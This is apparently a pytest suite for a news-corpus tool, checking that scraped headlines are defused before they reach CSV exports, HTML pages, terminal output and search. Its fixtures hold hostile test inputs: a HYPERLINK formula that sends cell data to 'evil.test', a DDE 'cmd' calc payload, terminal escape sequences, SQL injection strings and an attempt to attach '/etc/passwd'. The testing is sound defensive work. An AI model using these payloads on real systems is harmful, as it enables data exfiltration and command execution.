"""What came from the web goes out as text: to a browser, a spreadsheet, a terminal, a search."""

from __future__ import annotations

import asyncio
import csv
import io
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest

from ingest.cli import main
from ingest.export.cells import defuse
from ingest.text import clean_controls
from ingest.web.queries import QUERIES
from ingest.web.spreadsheet import defusing
from tests.filled import SCRIPT, add_article, add_page, fill
from tests.test_middlewares import make_workspace

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from ingest.corpus import Corpus

pytest.importorskip("datasette", reason="the web extra is not installed")
from tests.test_web import ask

_FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"read")\n+1, it said'
_CONTROLS = "\x1b]0;title\x07\x1b[31m\u202eevil\u202c\x9b2J"
#: What people type, and what breaks a parser of queries.
_SEARCHES = ('"', "'", "(", ")", "*", "a AND", "NEAR(", "a NEAR/2", "-", "^a", "title:", "{a b}:c",
             "\x00", "a\x00b", "; DROP TABLE articles", "%", "\\", "a*b", "\u202e", "OR OR", "",
             "🦄", "a" * 10_000)  # fmt: skip


@pytest.fixture
def filled(tmp_path: Path) -> Iterator[Corpus]:
    folder = make_workspace(tmp_path / "w", [])
    corpus = fill(folder / "corpus.db")
    for number, title in ((70, _FORMULA), (71, SCRIPT), (72, "Plain")):
        add_page(corpus, number, outlet="first.test", outcome="article")
        add_article(
            corpus, number, title=title, outlet="first.test", lead="-1.5", author="@SUM(A1)"
        )
    # As a version before the gate, or another program, may have written it.
    odd = f"Odd {_CONTROLS} odd"
    corpus._raw.execute("UPDATE articles SET title = ?, text = ?, lead = ? WHERE id = 72",
                        (odd, odd, odd))  # fmt: skip
    yield corpus
    corpus.close()


def test_a_cell_that_begins_like_a_formula_becomes_text_and_a_number_stays_one() -> None:
    for formula in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "-", "=", "-1-1"):
        assert defuse(formula) == f"'{formula}"
    for plain in ("-1.5", "+3", "1e-5", "-1e9", "", "a=b", "2025-07-01", "text"):
        assert defuse(plain) == plain


@pytest.mark.parametrize(
    "url", ["/corpus/articles.csv?_size=max", "/corpus/articles.csv?_stream=1", "/corpus.csv?"
            + urlencode({"sql": "select * from articles"})]
)  # fmt: skip
def test_tables_reach_a_spreadsheet_whole_and_without_formulas(filled: Corpus, url: str) -> None:
    (answer,) = ask(filled.path, urls=(url,))
    rows = {row["title"]: row for row in csv.DictReader(io.StringIO(answer.text, newline=""))}

    assert answer.status_code == 200
    assert f"'{_FORMULA}" in rows
    assert rows[f"'{_FORMULA}"]["author"] == "'@SUM(A1)"
    assert rows[f"'{_FORMULA}"]["lead"] == "-1.5"
    assert not [cell for row in rows.values() for cell in row.values() if cell[:1] in "=@" and cell]


@pytest.mark.parametrize("saved", ["_size=max", "_dl=1"])
@pytest.mark.parametrize(
    ("name", "spelled"),
    [("corpus", "~63orpus"), ("my.news", "my~2Enews"), ("my news", "my+news"),
     ("my news", "my~20news")],
)  # fmt: skip
def test_no_spelling_of_a_name_lets_a_formula_through(
    filled: Corpus, name: str, spelled: str, saved: str
) -> None:
    filled.close()
    path = filled.path.rename(filled.path.with_name(f"{name}.db"))
    (answer,) = ask(path, urls=(f"/{spelled}/articles.csv?{saved}",))

    assert answer.status_code == 200
    titles = {row["title"] for row in csv.DictReader(io.StringIO(answer.text, newline=""))}
    assert f"'{_FORMULA}" in titles
    assert _FORMULA not in titles


@pytest.mark.parametrize(
    ("kind", "path", "query", "is_table"),
    [
        (b"text/csv; charset=utf-8", "/x", b"", True),
        (b"TEXT/CSV", "/x", b"", True),
        (b"text/plain", "/x.csv", b"", True),
        (b"text/plain; charset=utf-8", "/x", b"_format=csv&_format=json", True),
        (b"text/plain", "/x", b"", False),
        (b"application/json", "/x.csv", b"_format=csv", False),
    ],
)
def test_a_table_is_known_by_what_the_answer_says_it_is(
    kind: bytes, path: str, query: bytes, *, is_table: bool
) -> None:
    sent: list[Any] = []

    async def send(message: Any) -> None:
        sent.append(message)

    async def app(_scope: Any, _receive: Any, send: Any) -> None:
        headers = [(b"Content-Type", kind), (b"Content-Length", b"5")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": b"=1\xff\r\n"})

    scope = {"path": path, "query_string": query}
    asyncio.run(defusing(app, lambda _scope: False)(scope, None, send))

    assert sent[1]["body"] == (b"'=1\xff\r\n" if is_table else b"=1\xff\r\n")
    assert len(sent[0]["headers"]) == (1 if is_table else 2)


def test_a_long_article_reaches_a_spreadsheet_whole(filled: Corpus) -> None:
    text = 'He said "no", twice.\n' * 10_000
    filled._raw.execute("UPDATE articles SET text = ? WHERE id = 72", (text,))
    (answer,) = ask(filled.path, urls=("/corpus/articles.csv?_stream=1",))
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(answer.text, newline=""))}

    assert len(text) > 200_000
    assert rows["72"]["text"] == text
    assert f"'{_FORMULA}" in {row["title"] for row in rows.values()}


def test_markup_in_a_headline_is_shown_and_not_obeyed(filled: Corpus) -> None:
    urls = ("/corpus/articles", "/corpus/articles/71", "/corpus/timeline", "/corpus")
    for answer in ask(filled.path, urls=urls):
        assert answer.status_code == 200
        assert SCRIPT not in answer.text
        assert answer.headers["content-type"].startswith("text/html")


@pytest.mark.parametrize("typed", _SEARCHES)
def test_no_search_of_a_visitor_is_an_error_of_the_server(filled: Corpus, typed: str) -> None:
    plain = [urlencode({"_search": typed}), urlencode({"_search": typed, "_searchmode": "raw"})]
    asked = [f"/corpus/articles.json?{one}" for one in plain]
    names = ("words", "phrase", "text", "search", "q", "term")
    more = urlencode(dict.fromkeys(names, typed))
    asked += [
        f"/corpus/{query.name}.json?{more}" for query in QUERIES if "match" in query.sql.lower()
    ]

    answers = ask(filled.path, urls=tuple(asked))
    assert [one.status_code for one in answers if one.status_code >= 500] == []
    assert answers[0].status_code == 200 or not typed.strip('"\0')


@pytest.mark.parametrize("typed", _SEARCHES)
def test_no_search_at_the_terminal_is_a_traceback(
    filled: Corpus, typed: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["-w", str(filled.path.parent), "search", "--", typed])

    assert code in (0, 1, 2)
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "arguments",
    [["search", "odd"], ["show", "72"], ["stories"], ["sources"], ["why", "https://first.test/72"]],
)
def test_a_terminal_gets_nothing_that_it_would_obey(
    filled: Corpus, arguments: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["-w", str(filled.path.parent), *arguments])
    told = capsys.readouterr()

    assert code == 0, told.err
    assert clean_controls(told.out + told.err) == told.out + told.err


def test_visitors_cannot_write(filled: Corpus) -> None:
    before = filled._value("SELECT count(*) FROM articles")
    statements = ("delete from articles", "update articles set title = 'x'", "drop table pages",
                  "attach database '/etc/passwd' as x", "pragma journal_mode = delete",
                  "insert into labels default values")  # fmt: skip
    urls = tuple("/corpus.json?" + urlencode({"sql": one}) for one in statements)

    assert {one.status_code for one in ask(filled.path, urls=urls)} == {400}
    assert filled._value("SELECT count(*) FROM articles") == before
